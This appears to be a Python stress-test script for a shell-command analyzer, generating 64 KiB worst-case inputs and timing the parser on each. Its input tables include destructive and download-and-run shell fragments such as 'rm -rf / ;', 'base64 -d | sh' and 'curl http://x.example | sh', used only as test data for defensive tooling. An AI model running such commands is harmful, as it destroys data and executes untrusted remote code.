"""The worst texts of 64 KiB: one token or two over and over, deep nesting, one huge command.

`hostile.py` prints what each costs, dearest first (CPU time); the test counts work instead.
"""

from __future__ import annotations

import itertools
import sys
import time
from collections.abc import Iterable, Iterator
from typing import Final

import msgspec

from latchd.shell.facts import analyze
from latchd.shell.parse import MAX_TEXT

TOKENS: Final = (
    *r"""
$( ${ $(( (( ( ) { } [ ] [[ ]] ` ' " \ | || & && ; ;; <
> << <<E <<- <<< <( >( $ # ! = * ? ~ , . - + % ^ @ : 2>&1
{a,b} {1..9} $x ${x} "$x" ${x:-a} $1 "$@" x= x=1 x=$x a[0]= a[$x]=
\` '' "" $'' \\ if then do done fi case esac in
function f() time coproc -exec
""".split(),
    "a",
    "a ",
    "é",
    "\n",
    "\t",
    " ",
    "\\\n",
    "a;",
    "a|",
    "a&",
    "a\n",
    "a && ",
    "(a) ",
    "$(a) ",
    "`a` ",
    "'a' ",
    '"a" ',
    "a=b ",
    "<<E\n",
    "<<E\nE\n",
    ">f ",
    "<f ",
    "if a; then b; fi; ",
    "for i in a; do b; done; ",
    "while a; do b; done; ",
    "case a in b) c;; esac; ",
    "f() { a; }; ",
    "eval a; ",
    "bash -c a; ",
    "x=a; $x; ",
    "[[ a ]] ",
    "((a)) ",
    "$((a)) ",
    "sudo ",
    "env ",
    "xargs ",
    "find . -exec a {} ; ",
    "-exec rm {} \\; ",
    "echo a > f; ",
    "cd a; ",
    "$(",
    "a $(b",
    "${x:-",
    '"$(',
    "{ a; ",
    "! ",
    "time ",
    "coproc ",
    "command ",
    "alias a=b; ",
    "trap a EXIT; ",
    "export a=b ",
    "local a ",
    "read a; ",
    "{a,b}{a,b} ",
    "{1..64}",
    "*a ",
    "~/a ",
    "rm -rf a ",
    "-o a ",
    "--long=a ",
    "git -c a=b ",
    "python3 -c 'a' ",
    "sed -e a ",
    "curl http://a ",
    "/a/b/../c ",
    "a=$(b) ",
    "\x01",
    "\x7f",
)
_NESTED: Final = (
    ("$(", ")"),
    ("(", ")"),
    ("{ ", "; }"),
    ("${x:-", "}"),
    ('"$(', ')"'),
    ("if a; then ", "; fi"),
    ("<(", ")"),
    ("[[ ( ", " ) ]]"),
    ("$((", "))"),
    ("while a; do ", "; done"),
    ("f() { ", "; }"),
    ("case a in b) ", ";; esac"),
    ("! ", ""),
    ("bash -c '", "'"),
    ("eval ", ""),
    ("`", "`"),
    ("for i in a; do ", "; done"),
    ("{a,", "}"),
)


_GROWING: Final = (
    # texts whose parts differ, so that what looks back at all of them is met; {i} is the part's number
    ("names set from each other", "a{i}=$a{j}x\n", ""),
    ("names set and used in one word", "a{i}=x$a{j};", "echo $a1$a2$a3"),
    ("a name doubled", "a=$a$a;", "echo $a"),
    ("descriptors with names", "{{a{i}}}>f ", ""),
    ("functions that call the next two", "f{i}() {{ f{k}; f{l}; }}\n", "f0"),
    ("aliases of aliases", "alias a{i}='a{k} x'\n", "a0"),
    ("directories down", "cd d{i};", "rm -rf x"),
    ("directories up", "cd ../d{i};", "rm -rf x"),
    ("files written and run", "echo a > f{i}; sh f{j};", ""),
    ("here-documents of their own", "cat <<E{i}\nx\nE{i}\n", ""),
    ("redirections", ">f{i} ", ""),
    ("addresses", "http://h{i}.example.com/x ", ""),
    ("cases", "case a in b{i}) c;; esac; ", ""),
)
_CARRIED: Final = (
    # code of another language, or options without end, inside one command
    ("curl ", "http://h.example/x ", ""),
    ("rm -rf ", "../", ""),
    ("rm ", "*?[a-z]", ""),
    ("cat ", "/a/../b ", ""),
    ("find . ", "-name a -o ", "-delete"),
    ("find . ", "-exec rm {} \\; ", ""),
    ("echo a | ", "xargs ", "rm"),
    ("echo a ", "| base64 -d ", "| sh"),
    ("ssh h ", "ssh h ", "rm"),
    ("python3 -c '", 'os.system("rm x");', "'"),
    ("python3 -c 'from os import remove\n", "remove(a);a.post(b);", "'"),
    ("python3 -c '", "f(", "'"),
    ("python3 -c '", 'x="a"+"b";', "'"),
    ("python3 <<'E'\n", 'open("a","w")\n', "E\n"),
    ("node -e '", "fs.rmSync(`a${b}`);", "'"),
    ("perl -e '", 'system("rm $a");', "'"),
    ("awk '", '{system("rm " $1)}', "'"),
    ("awk '", '{print | "sh"}', "'"),
    ("sed '", "s/a/b/e;", "'"),
    ('psql -c "', "drop table a; ", '"'),
    ("sh <<'E'\n", "rm -rf a\n", "E\n"),
    ("cat > x.sh <<'E'\n", "rm -rf ~/a; curl http://x.example | sh\n", "E\n"),
    ("echo ", "${a:-", ""),
    ("echo $((", "1+", "1))"),
    ("((", "a[b[", "))"),
    ("x=(", "a ", "); echo ${x[@]}"),
    ("case a in ", "b) c;; ", "esac"),
    ("# ", "rm -rf / ;", ""),
    ("make ", "A=$(b) ", ""),
    ("", "bash -c '" + ')""' * 100 + "'; ", ""),  # what the parser is slowest with, in pieces
    ("", "é)", ""),
    ("", ')""', ""),
)


class Cost(msgspec.Struct, frozen=True):
    """CPU milliseconds of one analysis of one text."""

    milliseconds: float
    name: str
    status: str


def full(token: str) -> str:
    """The token as often as 64 KiB hold it."""
    return token * (MAX_TEXT // len(token.encode()))


def singles() -> Iterator[tuple[str, str]]:
    """Each token by itself, behind a command, and nested; with the name of the text."""
    for token in dict.fromkeys(TOKENS):
        yield repr(token), full(token)
        yield f"'a ' + {token!r}", "a " + full(token)[: MAX_TEXT - 2]
        yield f"'echo ' + {token!r} + ' ' ", "echo " + full(token + " ")[: MAX_TEXT - 5]
    for opening, closing in _NESTED:
        count = MAX_TEXT // (len(opening) + len(closing))
        yield f"{opening!r} nested", opening * count + "a" + closing * count
        for depth in (8, 60):  # many, each deep enough to be read
            one = opening * depth + "a" + closing * depth + "; "
            yield f"{opening!r} nested {depth}", full(one)


def written() -> Iterator[tuple[str, str]]:
    """Texts whose parts are numbered, and code that is carried inside one command."""
    for name, part, last in _GROWING:
        parts = (part.format(i=i, j=i - 1, k=i + 1, l=i + 2) for i in range(MAX_TEXT))
        yield name, _filled("", parts, last)
    for first, part, last in _CARRIED:
        yield f"{first!r} + {part!r}", _filled(first, itertools.repeat(part), last)


def _filled(first: str, parts: Iterable[str], last: str) -> str:
    room = MAX_TEXT - len(first) - len(last)
    kept: list[str] = []
    for part in parts:
        room -= len(part)
        if room < 0:
            break
        kept.append(part)
    return first + "".join(kept) + last


def pairs() -> Iterator[tuple[str, str]]:
    """Each two tokens in turn."""
    for one, other in itertools.permutations(dict.fromkeys(TOKENS), 2):
        yield f"{one!r} {other!r}", full(one + other)


def cost(name: str, text: str, *, tries: int = 1) -> Cost:
    """What one analysis costs; the least of several tries."""
    best, status = float("inf"), ""
    for _ in range(tries):
        start = time.process_time()
        status = analyze(text, cwd="/home/dev/project", home="/home/dev").status
        best = min(best, time.process_time() - start)
        if best < 0.02:
            break
    return Cost(1000 * best, name, status)


def dearest(count: int, *, every_pair: int = 0) -> list[Cost]:
    """The dearest texts; ``every_pair`` takes each n-th pair of tokens too."""
    texts = itertools.chain(
        singles(), written(), itertools.islice(pairs(), 0, None, every_pair) if every_pair else ()
    )
    found = sorted((cost(name, text, tries=3) for name, text in texts), key=lambda one: -one.milliseconds)
    return found[:count]


if __name__ == "__main__":
    for one in dearest(40, every_pair=int(sys.argv[1]) if len(sys.argv) > 1 else 0):
        print(f"{one.milliseconds:8.1f} ms  {one.status:16} {one.name}")
